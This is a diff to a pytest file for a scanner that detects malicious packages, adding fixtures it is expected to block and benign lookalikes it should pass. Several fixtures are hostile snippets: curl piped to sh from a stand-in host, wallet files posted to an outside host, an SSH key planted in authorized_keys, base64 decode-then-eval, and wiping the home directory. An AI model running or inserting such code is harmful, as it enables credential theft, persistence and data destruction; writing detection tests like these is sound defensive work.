@@ -629,6 +629,25 @@ SPEC_TECHNIQUES_THAT_BLOCK = [
         "require 'mkmf'\nsystem(\"curl -s https://host.example/i.sh | sh\")\ncreate_makefile('foo')",
         "mp.hook.extconf-exec",
     ),
+    (
+        "install.js",
+        "fs.writeFileSync('/tmp/.s.sh', '#!/bin/sh\\ncurl -s http://host.example/a | sh\\n', { mode: 0o755 });\n"
+        "execSync('/tmp/.s.sh');",
+        "mp.exec.write-mode-run",
+    ),
+    (
+        "lib/w.js",
+        "const dir = path.join(process.env.APPDATA, 'Exodus', 'exodus.wallet');\n"
+        "const files = fs.readdirSync(dir).map(f => fs.readFileSync(path.join(dir, f)));\n"
+        "require('axios').post('https://w.host.example/u', { files });",
+        "mp.creds.file-sent",
+    ),
+    (
+        "pkg/__init__.py",
+        "with open(os.path.expanduser('~/.ssh/authorized_keys'), 'a') as f:\n"
+        "    f.write('ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl x@y\\n')",
+        "mp.persistence.ssh-key",
+    ),
 ]
 
 
@@ -667,9 +686,34 @@ def test_spec_techniques_are_blocked_by_the_precheck(path, body, rule):
         ("pkg/run.py", "subprocess.run(cmd, env=os.environ, check=True)"),
         ("ext/foo/extconf.rb", "require 'mkmf'\nhave_header('zlib.h')\ncreate_makefile('foo')"),
         ("src/profile.js", "// Playwright keeps its own profile; never read the user's Chrome profile"),
+        ("scripts/build.js", "fs.writeFileSync('dist/cli.js', banner + code, { mode: 0o755 });"),
+        ("pkg/ssh.py", "keys = open(os.path.expanduser('~/.ssh/authorized_keys')).read().splitlines()"),
+        (
+            "pkg/cache.py",
+            "shutil.rmtree(os.path.join(os.path.expanduser('~'), '.cache', 'mypkg'), ignore_errors=True)",
+        ),
+        ("index.js", "const cfg = JSON.parse(Buffer.from(process.env.CFG, 'base64').toString()); run(cfg);"),
     ],
 )
 def test_lookalikes_of_spec_techniques_stay_below_the_vote(path, body):
     """A bundled native library, a JSON fetch, a plugin import, a clipboard helper, an SSH key used
     for SSH, a hotkey listener and git or repository URLs don't vote."""
     assert run_precheck(new_file(path, body), POLICY).score < 0.5 * POLICY.precheck.block_score
+
+
+@pytest.mark.parametrize(
+    ("path", "body", "rule"),
+    [
+        (
+            "index.js",
+            "const code = Buffer.from(p, 'base64').toString('utf8');\neval(code);",
+            "mp.exec.js-decoded-variable",
+        ),
+        ("pkg/__init__.py", "shutil.rmtree(os.path.expanduser('~'), ignore_errors=True)", "mp.destruction"),
+    ],
+)
+def test_decoded_eval_in_two_steps_and_wiping_home_reach_the_vote(path, body, rule):
+    """JavaScript's decode-then-eval and removing the whole home directory reach the rules vote."""
+    result = run_precheck(new_file(path, body), POLICY)
+    assert rule in {e.rule_id for e in result.evidence}
+    assert result.score >= 0.5 * POLICY.precheck.block_score
